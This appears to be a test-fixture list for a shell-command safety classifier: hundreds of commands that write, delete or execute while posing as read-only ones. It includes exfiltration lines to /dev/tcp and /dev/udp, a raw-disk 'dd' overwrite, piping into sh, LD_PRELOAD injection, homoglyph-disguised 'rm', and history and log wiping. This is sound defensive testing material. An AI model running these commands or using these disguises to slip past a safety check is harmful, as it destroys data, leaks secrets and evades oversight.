"""Commands that do something, or could, dressed up as commands that only read; test_typed.py holds that none is called a read.

`\\n`, `\\r`, `\\x0b` and the like stand for the characters, two backslashes for one.
"""

ACTS = r"""
# Options shortened, glued, joined, and behind others
sort --outp x f
sort --output-x=f f
sort -ro x f
sort -o x -- f
sort -t -o x f
sort -S1M -ox f
uniq -f1 a b
uniq -- a b
# Redirections
ls > x
ls >x 2>&1
ls 1>x
ls 3>x
: > x
: >> x
true >| x
>x
cat < a > b
cat a 2>/dev/tcp/h/1
echo x > /dev/tcp/example.org/80
tee /dev/tcp/example.org/80
cat /etc/passwd | tee /dev/udp/h/53
# Names in disguise
\rm x
r\m x
"r"m x
'rm' x
r''m x
$'rm' x
/usr/bin/rm x
/usr/bin/../bin/rm x
/bin//rm x
~/bin/ls
./ls
../ls
bin/ls
/usr/bin/git -c alias.x='!rm y' x
/tmp/../usr/bin/ls
\git -c core.pager='rm x' -p log
# What separates commands
ls$IFS-la>x
ls	;rm	x
ls\nrm x
ls\r\nrm x
ls\x0brm x
ls&rm x
ls|rm x
ls||rm x
ls;rm x
ls&&rm x
ls|&tee x
ls;:>x
ls #\nrm x
ls \\\n; rm x
echo `rm x`
echo "`rm x`"
echo $(rm x)
echo ${X:-$(rm x)}
echo ${PATH:=y}
echo $((PATH=1))
echo $((a[$(rm x)]))
echo {a,$(rm x)}
cat <<E\n$(rm x)\nE
cat <<'E'\nx\nE\nrm x
cat <<<"$(rm x)"
cat <(rm x)
ls >(rm x)
ls\u00a0-la
ｌs -la
lѕ -la
ls\u200b -la
ls\u2028rm x
# find, rg, fd, tar: options that write or run
find . -fprintf x %p
find . -fprint x
find . -fls x
find . -fprint0 x
find . -delete
find . -ok rm {} ;
find . -execdir rm {} ;
find . -exec rm {} \\;
find . -exec ls {} ; -delete
find . -name x -o -exec rm {} +
find . -files0-from f -delete
find . -exec sh -c 'rm "$1"' _ {} \\;
find . -exec sh -c "rm {}" \\;
find . -exec env rm {} +
find . -exec sort -o {} {} \\;
rg --pre ./p x
rg --pre=./p x
rg --pre-glob '*' --pre p x
rg --hostname-bin=./p x
rg -z x
rg --search-z x
fd -x rm
fd --exec rm
fd --exec=rm
fd -HX rm
fd . -X rm
tar --to-command=./p -xf a
tar --to-comm ./p -xf a
tar -tf a --to-command=./p
tar -tvf a --checkpoint-action=exec=x --checkpoint
tar tf a -I ./p
tar --use-compress-program=./p -tf a
tar tf host:a
tar -tf a --rsh-command=./x
tar tzf a --index-file=x
tar -tf a -g snap
tar --delete -f a x
tar -Af a b
tar -tf a --rmt-command=x
# Pagers and editors
less f
less +!rm f
less '+!rm x' f
more f
view f
vi -c ':!rm x' f
vim -es +'!rm x' +q
man -P ./p ls
man --pager=./p ls
man --pag ./p ls
man -H./p ls
man -X ls
man -C ./f ls
# git
git -p log
git --paginate log
git -c core.pager=./p log
git -c core.pager=cat -c core.fsmonitor=./x status
git -c diff.external=./x diff
git -c diff.x.textconv=./x diff
git -c core.sshCommand=./x fetch
git -c alias.status='!rm' status
git -c core.editor=./x commit
git -c user.name=x -c core.hooksPath=. commit -m x
git --exec-path=. status
git --exec-path . status
git --git-dir=x log
git --config-env=core.pager=X log
git -c core.pager log
git -c color.ui=never -c x.y=z log
git -C . -c a.b=c log
git log --ext-diff
git log --ext-d
git log --textc
git log --output x
git log --outpu=x
git diff --output=x
git show --output=x HEAD
git format-patch -o /x -1
git stash show --output=x -p
git grep -O x
git grep -Ovim x
git grep --open-files-in-pager=x y
git grep -nO x
git archive --remote=x HEAD
git archive -o x HEAD
git ls-remote --upload-pack=./x .
git fetch --upload-pack=./x .
git clone --upload-pack=./x . y
git clone -u ./x . y
git upload-pack .
git bisect run ls
git submodule foreach ls
git rebase -x ls main
git config alias.x '!ls'
git config core.hooksPath .
git config --file .git/config core.pager x
git config -f x a.b c
git config --replace-all a.b c
git config --unset a.b
git config --rename-section a b
git diff --no-index --output=x a b
git branch -m a b
git branch -f a b
git branch -u origin/x
git branch --edit-description
git branch --list -d x
git tag -f x
git tag -d x
git tag x
git remote set-url origin x
git remote add x y
git notes add -m x
git replace a b
git update-ref -d x
git symbolic-ref HEAD x
git reflog expire --all
git worktree add x
git var GIT_EDITOR x > y
git hash-object -w f
git fsck --lost-found
git rerere
git difftool
git gc
git help -w log
git help log
git log --show-signature
git log --format=%GG
git log --pretty=%G?
git for-each-ref --format='%(signature:key)'
git cat-file --textconv HEAD:x
git cat-file --filters HEAD:x
git blame --textconv x
git sparse-checkout set x
# Variables
GIT_EXTERNAL_DIFF=x git diff
GIT_PAGER=./x git log
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log
GIT_SSH_COMMAND=x git fetch
GIT_DIR=x git log
GIT_CONFIG_GLOBAL=x git log
GIT_EXEC_PATH=x git log
PAGER=./x man ls
EDITOR=x git commit
BASH_ENV=x bash -c ls
ENV=x sh -c ls
PROMPT_COMMAND=x ls
PATH=. ls
LD_PRELOAD=x ls
LD_LIBRARY_PATH=. ls
DYLD_INSERT_LIBRARIES=x ls
IFS=x; ls
PS4='$(rm x)' bash -xc ls
SHELLOPTS=xtrace ls
GCONV_PATH=. iconv -f x f
LESSOPEN='|rm x' cat f
RIPGREP_CONFIG_PATH=x rg y
MANPAGER=./x man ls
PYTHONSTARTUP=x python
NODE_OPTIONS='-r ./x' node --check f
TAR_OPTIONS='--to-command=x' tar tf a
HISTFILE=x
# Programs that run others
env PATH=. ls
env -i PATH=. ls
env LD_PRELOAD=x ls
env -S 'ls -la'
env -S'rm x'
env --split-string='rm x'
env -vS 'rm x'
env A=b C=d rm x
env -u X rm x
env -C / rm x
env -- rm x
env - rm x
sudo -u x rm y
sudo -i
sudo -s ls
sudo -e f
sudo -A ls
sudoedit f
sudo PATH=. ls
sudo --preserve-env=PATH ls
sudo -- rm x
doas rm x
nice -n5 rm x
nice -5 rm x
ionice -c3 rm x
timeout -s KILL 5 rm x
timeout 5s sh -c 'rm x'
setsid -f rm x
stdbuf -o0 rm x
unbuffer rm x
time -o x ls
/usr/bin/time -o x ls
/usr/bin/time -ao x ls
/usr/bin/time --output=x ls
taskset 1 rm x
taskset -p 1 1
chroot / ls
unshare ls
nsenter -t 1 ls
xargs rm
xargs -I{} rm {}
xargs -I % sh -c 'rm %'
xargs -I% sh -c %
xargs sh -c
xargs -n1 sh -c 'rm "$0"'
xargs -a f sort
xargs -J % rm %
xargs --arg-file=f rm
xargs -P4 -n1 rm
xargs find
xargs git log
xargs env
xargs -n1 env
xargs sed -n
xargs sudo
xargs bash
parallel ls ::: a
parallel -a f ls
parallel --tmpdir=x ls ::: a
# Small languages
awk 'BEGIN{system("rm x")}'
awk 'BEGIN{"rm x"|getline}'
awk '{print|"sh"}' f
awk '{print>"x"}' f
awk '{printf "x" >> "y"}' f
awk '{ print $1 > $2 }' f
awk -f p f
awk -i inplace '{print}' f
awk --include=inplace 1 f
awk -l ext 1 f
awk -e 'BEGIN{system("x")}' f
awk --source 'BEGIN{system("x")}'
awk -v x='y' -f p
awk -d/x 1 f
awk -ox 1 f
awk -p/x 1 f
gawk --profile=x 1 f
awk 'BEGIN{printf "x" | "sh"}'
awk -F '|' '{print $1 | "sh"}' f
awk 'BEGIN{s="sys" "tem"; @s("rm")}'
sed 'w x' f
sed -n '/a/w x' f
sed 's/a/b/w x' f
sed 's/a/b/gw x' f
sed 's/a/rm x/e' f
sed 's/a/b/ew' f
sed '1e rm x' f
sed 'e' f
sed -n '$!{w x\n}' f
sed 'y/a/b/;w x' f
sed 'a\\\nx\nw y' f
sed -i 's/a/b/' f
sed -ni 's/a/b/' f
sed -Ei 's/a/b/' f
sed --in-place=.bak s/a/b/ f
sed --in-p s/a/b/ f
sed -n -f s f
sed --file=s f
sed -e p -f s f
sed -s -i p f
sed 'r x' f
sed 'R x' f
sed 'W x' f
sed 's_a_b_w x' f
sed -n 's/\\(a\\)/w x/ep' f
sed '/x/I,+1w y' f
# Downloads and interpreters
curl -K f
curl -o x u
curl -so x u
curl --config f
curl -T f u
curl u > x
curl file:///etc/passwd
curl -V u
curl --version u
wget -i f
wget -O- u
wget --version u
http :8080/x
python -m http.server
python3 -m http.server 8000
python3 -m json.tool a b
python3 --version -c 'x'
python3 -V x.py
python3 -c 'x' --version
python -
python < f
perl -c f
perl -v -e 'x'
ruby -c -r./x f
ruby -rx -c f
node -c -r ./x f
node --check --require ./x f
node -e x -c
php -l -r 'x' f
php -d auto_prepend_file=x -l f
php -r 'x' -l
# Shells
bash -n -c 'rm x'
bash -nc 'rm x'
bash -c 'rm x'
bash -lc 'rm x'
bash --rcfile x -ic ls
bash --init-file x -c ls
bash -c "ls; rm x"
bash -c 'ls > x'
bash -c "$X"
bash -c ls\\;rm\\ x
bash -c 'eval "$1"' _ 'rm x'
bash -c '$0' rm
bash -c '"$@"' _ rm x
bash -c '. ./x'
bash -s < f
bash <<< 'rm x'
bash < f
sh -c 'sh -c "rm x"'
sh -ec 'rm x'
sh -c -- 'rm x'
sh +c 'rm x'
sh x.sh
sh -x x.sh
bash -O extglob -c 'rm x'
bash -o errexit -c 'rm x'
bash -D
zsh -c 'ls'
ksh -c ls
busybox rm x
busybox sh -c 'rm x'
# The machine: clock, names, file systems, network, kernel, logs
column -t f > x
date -s x
date --set=x
date 010203
date -us x
date --se x
date -f f -s x
hostname NAME
hostname -F f
hostname -b x
hostnamectl set-hostname x
hostnamectl hostname x
timedatectl set-time x
mount /dev/a /b
mount -a
mount -o remount,rw /
mount --bind a b
umount x
sysctl -w a=b
sysctl a=b
sysctl -p
sysctl -p x
sysctl --system
sysctl -n a=b
sysctl --load=x
ip link set eth0 up
ip l s eth0 up
ip link add x
ip a add 1.2.3.4/8 dev x
ip a flush dev x
ip addr del x dev y
ip route del default
ip r add x
ip -b f
ip -batch f
ip netns exec x rm y
ip netns add x
ip -force addr
ip -all netns exec ls
ip neigh flush all
ip link delete x
ifconfig eth0 down
ifconfig eth0 1.2.3.4
route add default x
arp -d x
arp -s a b
iptables -F
iptables -A INPUT -j DROP
iptables -t nat -F
iptables -L -Z
iptables -nvLZ
iptables -P INPUT DROP
ss -K
ss -tK
ss --kill
ss -D x
ss -tD x
netstat -tX
dmesg -C
dmesg -c
dmesg --clear
dmesg --cl
dmesg -n 1
dmesg -Tc
journalctl --vacuum-size=1
journalctl --vacuum-t=1
journalctl --rotate
journalctl --flush
journalctl --cursor-file=x
journalctl --rel
# The shell itself
history -c
history -w x
history -d 1
history -cw
history -a
ulimit -n 10
ulimit -c 0
umask 000
trap 'rm x' EXIT
trap 'rm x' 0
exec > f
exec rm x
exec 3> f
printf -v X y
printf -vX y
printf '%n' X
read PATH
read -r LD_PRELOAD
read -a X
read 'a[$(rm x)]'
mapfile -C 'rm' -c 1 x
source f
. f
eval 'rm x'
eval rm x
alias ls='rm x'
alias ls=rm; ls
unalias ls
function ls { rm x; }; ls
ls() { rm x; }; ls
export PATH=.
declare PATH=.
declare -x A=b
local x=$(rm x)
set -- rm x
set -o history
set +e
shopt -s expand_aliases
enable -f ./x.so ls
hash -p ./x ls
hash -d ls
builtin eval 'rm x'
builtin source f
command eval 'rm x'
command -v ls; rm x
command -p rm x
coproc rm x
! rm x
if true; then rm x; fi
while true; do rm x; done
for f in *; do rm "$f"; done
for PATH in .; do ls; done
case x in x) rm x;; esac
{ rm x; }
(rm x)
[[ -n $(rm x) ]]
[[ -v a[$(rm x)] ]]
test -v 'a[$(rm x)]'
[ -v x ]
[ "$(rm x)" ]
((x=$(rm x)))
let x=1
expr $(rm x)
wait -p PATH
jobs -x rm x
fc -s
disown
logout
help -x > y
# Programs with sub-commands
tmux ls -F '#(rm x)'
tmux display -p '#(rm x)'
tmux list-sessions -f '#{?#(rm x),1,}'
tmux run 'rm x'
tmux if true 'run rm'
tmux source f
tmux -c 'rm x'
tmux -f x ls
tmux ls \\; kill-server
tmux capture-pane
tmux show \\; run rm
screen -X exec rm x
screen -dm rm x
npm run x
npm version patch
npm ls --node-options='-r x'
npm config set a b
npm x y
npm exec y
npm pack --dry-run
npm t
npm --prefix x run y
npm ls --json > x
pip config set a b
pip list -o
pip --python ./x list
pip cache purge
pip download x
yarn list
pnpm ls
cargo metadata
go env -w A=b
go vet
docker ps -a > x
docker -H ssh://x ps
docker --context x ps
docker run x
docker compose -f x up
docker compose exec a b
docker logs -f x > y
docker exec x ls
docker cp a:b c
docker image prune
docker context use x
docker inspect x | sh
kubectl config use-context x
kubectl config set a b
kubectl exec x ls
kubectl proxy
kubectl get -f http://x
terraform fmt
terraform fmt -check=false
terraform -chdir=x fmt -check
terraform console
terraform output
aws configure set a b
systemctl edit x
systemctl status -H x y
systemctl --root=/x enable y
systemctl set-environment A=b
systemctl import-environment
systemctl daemon-reexec
systemctl set-property x a=b
loginctl terminate-user x
launchctl load x
launchctl setenv a b
crontab -r
crontab -e
crontab f
crontab -l -r
crontab -u x -r
crontab -
at now
apt list --installed -o Dir::Bin::x=./y
apt-get -o APT::Update::Pre-Invoke::=x update
apt-cache -c x search y
dpkg -i x
dpkg --force-all -i x
dpkg -l --root=x > y
dpkg --pre-invoke=x -l
rpm -qp http://x/y.rpm
rpm -e x
rpm -q --eval '%(rm x)'
rpm --eval '%(rm x)'
rpm -E '%(rm x)'
rpm -q --define 'a %(rm x)' y
rpm -q --pipe 'rm x' y
rpm -qa --pipe=sh
brew list --debug x && brew cleanup
brew config > x
pacman -Qdt -R x
pacman -R x
pacman -Q --dbpath x -S y
# Keys and databases
openssl x509 -in a -out b
openssl x509 -noout -out b
openssl rand -out x 16
openssl rand -engine ./x 16
openssl dgst -sha256 -out x f
openssl enc -aes-256-cbc -in a -out b
openssl req -newkey rsa:2048 -keyout a
openssl list -provider-path . -provider x
openssl version -engine x
openssl s_client -connect h:1
ssh-keygen -f x
ssh-keygen -R h
ssh-keygen -l -f x -R h
ssh-keygen -lD ./x.so
ssh-add x
ssh-add -D
ssh-add -l -D
ssh-add -s ./x.so
ssh -G h
ssh -o ProxyCommand='rm x' h
gpg -d x > y
gpg --recv-keys x
gpg -o x -d y
gpg --list-keys --keyserver x
sqlite3 -readonly db '.shell rm x'
sqlite3 -readonly db "select writefile('x','y')"
sqlite3 -readonly db 'select 1' '.system rm x'
sqlite3 -readonly db "select load_extension('./x')"
sqlite3 -readonly -cmd '.shell rm' db 'select 1'
sqlite3 -readonly -init f db 'select 1'
sqlite3 -readonly db '.output x' 'select 1'
sqlite3 -readonly db '.once x'
sqlite3 -readonly db '.read f'
sqlite3 -readonly db < f
sqlite3 -readonly db 'select 1;\n.shell rm x'
sqlite3 -readonly db "select edit('x','rm')"
sqlite3 -readonly db 'select 1; vacuum into "x"'
sqlite3 -readonly db "attach 'x' as y"
sqlite3 -readonly db 'pragma wal_checkpoint'
sqlite3 -readonly db '.log x'
sqlite3 -readonly db '.backup x'
sqlite3 -readonly db '.dump' > x
sqlite3 -readonly db '.tables | rm x'
sqlite3 -readonly db '.import |rm t'
sqlite3 db 'select 1'
psql -c 'select 1'
# Files and formats
jq -n 'input_filename' > x
jq -f x --output y
yq -i . f
yq -yi . f
yq --inplace . f
yq -s .a f
yq --split-exp .a f
yq eval -i . f
yq 'system("rm")' --security-enable-system-operator f
xmllint --output x f
xmllint http://x
xmllint --shell f
xmllint -o x f
identify '|rm x'
identify http://x/y.png
identify msl:x
identify -write x y
identify @f
ffprobe http://x
ffprobe -i http://x
ffprobe -report f
ffprobe concat:a
ffprobe -f lavfi movie=x
exiftool -FileName=x f
exiftool -j=x f
exiftool -overwrite_original -Make=x f
exiftool -if 'system("rm")' f
exiftool -p '${x;system("rm")}' f
exiftool -config x f
exiftool -o x f
exiftool -tagsfromfile a b
exiftool -w txt f
pdftotext a b
pdftotext - a
pdfinfo -js a > b
convert a b
convert msl:x y
file -C -m x
file -z x
xattr -w a b f
xattr -d a f
xattr -c f
tree -o x
tree -R -H . -L 1
tree --output=x
eza --output x
bat --pager='rm x' f
bat cache --clear
ag --pager 'rm x' y
ag -z x
shellcheck --rcfile x f
yamllint -c x f
cloc --out=x .
cloc --report-file x .
cloc --ou x .
cloc --extract-with='rm x' .
diff --to-file=x a > y
diff -l a b
diff --pagin a b
sdiff -o x a b
sdiff --diff-program=./x a b
diff3 --diff-program=./x a b c
diff3 --diff-pro ./x a b c
diffstat -o x f
zip -l x
unzip -l x -d y
unzip x
unzip -p x | sh
zipinfo -O x
7z x a
7z l a -o/x
# Files made and changed
gzip f
gzip -d f
gzip -k f
gzip -cf f > x
gzip -lf f -d
xz -l f -d
bzip2 -t f -z
zstd -l f --rm
zstd -c f -o x
zcat f > x
split f
csplit f 1
install a b
cp a b
dd of=x
dd if=a of=/dev/sda
dd if=a conv=notrunc of=x
truncate -s0 x
fallocate -l 1 x
ln -s a b
mkfifo x
mknod x p
mktemp
mktemp -u --suf x -d
touch x
touch -r a b
patch < x
patch --dry-run -o x
rsync a b
rsync -e ./x a b
rsync --rsh=./x a h:b
scp a b
# Processes and devices
logger x
wall x
write u
mail u
fuser -k 80/tcp
fuser -vk .
fuser -ki .
kill 1
kill -0 1 -9 2
pkill x
killall x
pgrep --signal KILL x | xargs kill
lsof -Di
lsof +m x
top -b -n 1 > x
nvidia-smi -r
nvidia-smi -pm 1
nvidia-smi -f x
nvidia-smi -q -f x
sensors -s
smartctl -t short x
smartctl -s on x
smartctl -a -t long x
fdisk x
fdisk -l x > y
blkid -g
swapon x
swapon -a
losetup -a
modprobe x
modinfo x | sh
lspci -Q
lastlog -C -u x
last -f x > y
sar -o x 1
pidstat -e rm x
iostat 1 1 > x
# Desktops, linters and the rest
code --install-extension x
code --list-extensions --extensions-dir x
code .
defaults write a b c
defaults delete a
diskutil eraseDisk x y z
pmset sleepnow
pmset -a sleep 0
scutil --set HostName x
launchctl bootout x
open x
osascript -e x
xdg-open x
say x
pbcopy < x
brew services start x
gofmt -w .
gofmt -lw .
gofmt -l -cpuprofile=x .
clang-format -i f
clang-format --style=file -i f
ruff check --fix
ruff format --check --fix
black .
tput -x reset > y
infocmp -I > x
locale > x
getent hosts example.org
getent ahosts x
nslookup x
svn up
svn status -u
svn st --config-option x
wg set x
ufw disable
nft flush ruleset
nft -f x
nmcli device disconnect x
nmcli radio wifi off
virsh destroy x
vagrant status
just
just build
just -l --set a b c --evaluate
make -n
make --version -f x
make -f - < x
cmake -P x
tsc --noEmit
# Second look: versions and helps
cargo --version
yarn --version
pnpm -v
pytest --version
eslint --version
make --help x
gradle --help
git log --help
docker run x --help
docker --help run x
kubectl x --help
npm --help run
for i in 1 2; do rm $i; done
while read PATH; do ls; done < f
while read -r LD_PRELOAD; do ls; done
case $(rm x) in a) ls;; esac
select x in a; do rm $x; done
until rm x; do ls; done
if ls; then :; else rm x; fi
{ ls; } > x
(ls) >> x
ls | { rm x; }
ls && (rm x)
f() { rm x; }; f
f() { ls; }; f > x
function git { rm x; }; git status
cd() { rm x; }; cd y
[[ $(rm x) ]]
[[ $X -eq 1 ]]
(( a[$(rm x)] ))
echo $(( $X ))
echo ${X@P}
echo ${!X}
echo ${a[$(rm x)]}
echo ${X/$(rm x)/}
echo "${X:-`rm x`}"
X=$(rm x) ls
X=`rm x`
X=y PATH=. ls
A=1 B=2 LD_PRELOAD=x ls
PATH+=:. ls
export A; ls
arr=($(rm x)); ls
arr[$(rm x)]=1
cat <<E | sh\nrm x\nE
cat << E > x\ny\nE
bash <<E\nrm x\nE
sh <<< 'rm x'
cat <<-E\n\t$(rm x)\n\tE
ls > "$(rm x)"
ls 2> >(rm x)
ls > >(tee x)
tee >(rm x) < f
tee >(cat > x) < f
diff <(rm x) <(ls)
cat < <(rm x)
ls & rm x
ls & wait; rm x
coproc ls; rm x
# Second look: programs that run others
time rm x
time -p rm x
time { rm x; }
\time -o x ls
command time -o x ls
env time -o x ls
env -u A sudo rm x
sudo env A=b rm x
sudo -n -E rm x
nice nohup rm x
nohup ls
setsid setsid rm x
xargs xargs rm
xargs env rm
xargs sh -c 'cat "$@" > x' _
xargs -I{} cp {} x
xargs -n1 -I{} bash -c 'echo {}'
find . -exec bash -c 'echo {}' \\;
find . -exec bash -c 'cat "$0" > x' {} \\;
find . -exec sed -i s/a/b/ {} +
find . -exec sort -o {} {} +
find . -exec env A=b rm {} +
find . -exec sudo rm {} \\;
find . -exec tee {} \\;
find . -exec xxd {} x \\;
find . -exec git -C {} gc \\;
find . -exec awk '{print > "x"}' {} \\;
find . -exec {} \\;
find . -exec ./{} \\;
find . \\( -delete \\)
find . , -delete
find -D exec . -delete
find . -name '*' -okdir rm {} \\;
bash -c 'bash -c "bash -c \\"rm x\\""'
bash -c 'ls "$1"' _ x > y
bash -c 'f() { rm x; }; f'
bash -c "$(cat f)"
bash -c "`cat f`"
bash -c ls$X
bash -c 'ls' -c 'rm x' > z
bash -c $'rm x'
bash -c "l""s; r""m x"
bash -euo pipefail -c 'rm x'
bash -o pipefail x.sh
bash -l
bash -lc
bash -e x
bash -c 'source x'
bash -c '. x'
bash -c 'exec rm x'
bash -c 'trap "rm x" EXIT'
bash -c 'eval ls'
bash -c 'alias ls=rm; ls'
bash -c 'PATH=. ls'
watch -x rm x
watch 'ls; rm x'
watch -n 1 -d rm x
watch ls > x
watch --exec rm x
watch 'ls' ';' rm x
ssh h ls
flock x -c 'rm y'
flock -u 9
flock f ls
parallel -j2 'rm {}' ::: a
parallel ::: 'rm x'
parallel < f
entr ls
taskset -c 0 rm x
ionice -p 1
chrt 1 ls
unshare -r ls
# Second look: git
git -c core.pager='sh -c x' log
git -c pager.log=./x log
git -c color.ui=always -c alias.x='!y' x
git -c user.name='x' -c 'core.pager=./x' log
git -c diff.algorithm=x -c diff.external=y diff
git -c user.name=x config core.pager y
git -c log.date=x log --output=y
git -c advice.x=y -C z status --output=q > r
git -c include.path=x status
git -c init.defaultbranch=x init
git -c color.diff.x=y -c core.sshcommand=z fetch
git -c user.email=x commit -am y
git -ccore.pager=x log
git -Cx -ccore.pager=y log
git -c color.pager=./x log --ext-diff
git -c core.abbrev=$(rm x) log
git column --command=x > y
git stripspace -c > x
git check-mailmap --stdin > x
git show-branch --output=x
git sparse-checkout list > x
git sparse-checkout disable
git commit-graph write
git pack-redundant
git multi-pack-index write
git credential fill
git remote-ext x y
git fast-import
git imap-send
git daemon
git web--browse x
git instaweb
git annotate --output=x f
git diff-pairs
git stage x
git am x
git notes edit
git notes show --foo
git branch --list --format='%(signature)'
git tag --list --format='%G?'
git tag -v x
git verify-commit HEAD
git verify-tag x
git bugreport
git diagnose
git scalar
git flow init
# Second look: sub-commands
tmux ls ; tmux kill-server
tmux ls ';' kill-server
tmux has -t 'x;' kill-server
tmux ls\\; kill-server
tmux -Lx -S y ls > z
tmux showmsgs \\; run x
tmux show -t "$X" y
tmux capture-pane -p \\; run x
tmux -L x -f y ls
docker ps --format '{{json .}}' > x
docker logs x 2>&1 | tee y
docker -c x ps
docker --config x ps
docker --log-level debug rm x
docker compose -p x down
docker container prune
docker container exec x y
docker image pull x
docker context rm x
docker context import x y
docker system events > x
docker volume create x
docker info --x
docker swarm leave
docker plugin install x
docker buildx bake
docker inspect --size x > y
kubectl config view --kubeconfig=x > y
kubectl config --kubeconfig x set a b
kubectl config get-contexts --server=x
kubectl completion bash > x
kubectl plugin list
kubectl krew install x
helm env > x
helm plugin install x
helm repo add a b
helm version --kubeconfig x
terraform fmt -check x > y
terraform fmt -write=true -check
terraform fmt -check -write
terraform version
terraform show
terraform workspace list
terraform state list
terraform providers
terraform graph
aws configure list
aws configure get x --profile y > z
aws s3 presign x
gh config list > x
gh alias list; gh x
gh extension exec x
gh auth token
svn info http://h/x
svn info ^/trunk
svn info -r HEAD
svn diff --diff-cmd x
svn cat x
systemctl cat x --edit
systemctl show -p x --host=y
systemctl list-units -H x
systemctl is-active --machine=x y
systemctl help x
systemctl kill x
systemctl switch-root x
systemctl enable --now x
systemctl --user restart x
systemctl --force x
hostnamectl --static x
timedatectl set-ntp 0
localectl set-locale x
loginctl enable-linger
loginctl kill-session 1
systemd-analyze verify x
systemd-analyze security x
systemd-analyze plot > x
systemd-analyze log-level debug
systemd-analyze set-log-level x
systemd-analyze service-watchdogs off
systemd-analyze cat-config x
ip addr show > x
ip a flush x
ip a c x
ip a sh x del y | sh
ip link set x up
ip -s link set x up
ip route flush table x
ip r get x > y
ip -n x link del y
ip netns
ip netns list x > y
ip maddress add x
ip rule add x
ip tunnel add x
ip xfrm state flush
ip monitor
ip vrf exec x y
ip -c -b x
npm ls --prefix x --script-shell=y
npm config list --userconfig=x > y
npm run --script-shell x
npm run-script build
npm version 1.0.0
npm version --no-git-tag-version patch
npm explain x --foo
npm get x --bar
npm pkg set a=b
npm cache clean --force
npm query x | xargs rm
npm root -g > x
npm -g install x
npm -C x ls
conda list --revisions > x
conda info --unsafe-channels > x
conda config --set a b
conda env remove x
conda clean -a
conda run x
rustup toolchain list > x
rustup default x
rustup run x y
rustup show
go version ./x > y
go env -w=x
go env -u X
go -C x env -w A=b
gem list --remote
gem list --config-file x
gem which x > y
gem env | sh
pyenv versions > x
pyenv exec x
pyenv version --foo
apt list > x
apt show -o x=y z
apt search --with-source=x y
apt --fix-broken install
apt-cache gencaches
apt-cache stats -o A=b
apt-mark hold x
snap list --x
flatpak list > x
apk info -U
apk info --repository x
apk list -X http://x
brew list | xargs brew rm
brew config --foo
brew leaves > x
7z l x -o. y > z
7z l -scrc x > y
7z e x
7z u x y
defaults read x > y
defaults write x
wg showconf x > y
wg genkey | tee x
nft -i
ufw status; ufw reset
getent hosts x
pmset -g > x
scutil --dns > x
launchctl list | xargs launchctl remove
ssh-keygen -lf x > y
ssh-keygen -F h -R x
ssh-keygen -l -f x -p
ssh-keygen -y -f x > y
openssl version -a > x
openssl rand -hex 16 > x
openssl x509 -in a -signkey b
openssl x509 -req -in a -CA b
openssl x509 -in a -CAcreateserial
openssl req -new -config x
openssl req -x509 -newkey rsa
openssl ec -in a -out=b
openssl pkcs12 -export -in a
openssl pkcs12 -in a -out b
openssl ca -config x
openssl dgst -sign k f > x
openssl dgst -engine x f
openssl base64 -out x
openssl base64 -outx y
openssl list -provider-path x
openssl asn1parse -in a -out b
openssl asn1parse -genconf x
openssl crl -in a -out b
gpgconf --kill all
ruff check
ruff format --check --diff > x
ruff rule --foo
ruff clean
just -l > x
just --list --shell ./x
just --summary --dotenv-path x --set a b -c 'rm x'
just --evaluate
just --command rm x
just -f x -c rm y
screen -ls > x
screen -r x
sysctl -a -w x=y
sysctl -n x=y
sysctl -nw x=y
sysctl --pattern x --system
ffprobe 'http://x'
ffprobe -i 'tcp://x'
ffprobe pipe:0 > x
ffprobe -show_entries x -o y z
ffprobe -protocol_whitelist http x
ffmpeg -i a b
ffmpeg -y -i a -f null -
exiftool '-Comment<x' f
exiftool -Comment=x f
exiftool -@ x
exiftool -execute -o x
exiftool -z f
exiftool -b -w x f
exiftool -all= f
xmllint --dtdvalid http://x f
xmllint --noout --valid f
xmllint - > x
xmllint --noout @x ftp:y
mediainfo http://x
mediainfo --LogFile=x f
clang-format @x
clang-format -dump-config > x
clang-format --i x
nm @x
nm --plugin ./x y
nm --plug=./x y
objdump @x
objdump -S x --dwarf=follow-links > y
readelf @x
nvidia-smi --gpu-reset
nvidia-smi -q --filename=x
nvidia-smi -e 1
nvidia-smi daemon
top -b -n1 -W
lsof -D b
lsof +mx
lsof -p 1 +m
dpkg -l -i x
dpkg -c x --ctrl-tarfile y -i z
dpkg -S x -r y
dpkg --compare-versions a lt b -i x
rpm -q -i -e x
rpm -qa --dbpath x --rebuilddb
rpm -q --root x --initdb
rpm -V x
rpm -i x
rpm -qf x --erase y
pacman -Qk -S x
pacman -Qi x -U y
pacman -Syu
fdisk -l -w always x
smartctl -a -s on x
smartctl -X x
node --check -r x y
node -c x -e y
node -c --import x y
node -p 1 -c
php -l -f x -r y
php -l -d x=y f
php -S x -l
pdftotext -f 1 x y
pdftotext x - y
sqlite3 -readonly x "select 1" ".once |rm x"
sqlite3 -readonly x "select 1; pragma optimize"
sqlite3 -readonly x "with a as (select 1) insert into b select * from a"
sqlite3 -readonly x ".schema x y"
sqlite3 -readonly x ".tables;.shell y"
sqlite3 -readonly x ".headers on" ".output y"
sqlite3 -separator -readonly x "select 1"
sqlite3 -readonly -vfs y x "select 1"
sqlite3 -readonly -A -cf x y
sqlite3 -readonly ":memory:" "select zipfile(1)" "select readfile('x')" > y
sqlite3 -readonly x "explain select writefile('a','b')"
sqlite3 -readonly x "/* */ delete from x"
sqlite3 -readonly x "values(load_extension('x'))"
sqlite3 -readonly x "select 1" < y > z
hash -r; ./ls
wait -n -p PATH
read -r a PATH
read -a x -p y
read -u 3 -r IFS
local PATH=.
builtin read PATH
builtin local PATH=.
builtin hash -p x ls
command read PATH
command printf -v PATH x
command exec rm x
exec -a ls rm x
exec -c rm x
alias x=y
history -s 'rm x'
history -r f
history 5 -c
cd x; ./ls
cd - > x
pushd +1 > x
umask 0
ulimit -S -n 5
ulimit unlimited
code --list-extensions --install-extension x
ssh-add -l x -D
ssh-add -L -t 5
man ls > x
man -k x | sh
man -K x -P y
man -w -C x ls
fuser -k -n tcp 80
fuser -v -k x
fuser -n tcp 80 -k
fuser -s -KILL x
svn status --config-dir x
bat -P --pager x f
bat --diff f > x
bat --generate-config-file
eza --stdin < x > y
tree --fromfile x -o y
tree -ox
tree -L 1 -o x
diff --to-file x y --output=z
diff -D x a b > c
sdiff -ox a b
sdiff --output=x a b
diff3 -m a b c > d
cmp a b > c
sort -T x y
sort -tx -oy z
sort --files0-from=x -o y
shuf --out=x f
shuf -ox f
iconv --out x f
iconv -o- f > x
base64 --output x f
uniq -c a b
uniq a -c b
xxd -r a b
xxd -p a b
yq -i=true . f
yq --inplace=true . f
